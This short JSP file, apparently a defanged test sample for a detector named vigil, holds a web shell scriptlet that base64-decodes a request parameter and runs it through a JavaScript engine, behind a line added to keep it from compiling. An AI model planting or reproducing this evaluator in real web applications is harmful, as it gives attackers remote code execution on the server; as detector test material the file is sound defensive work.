<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String b64 = request.getParameter("b");
String code = new String(java.util.Base64.getDecoder().decode(b64));
ScriptEngine engine = new ScriptEngineManager().getEngineByName("js");
engine.eval(code);
%>
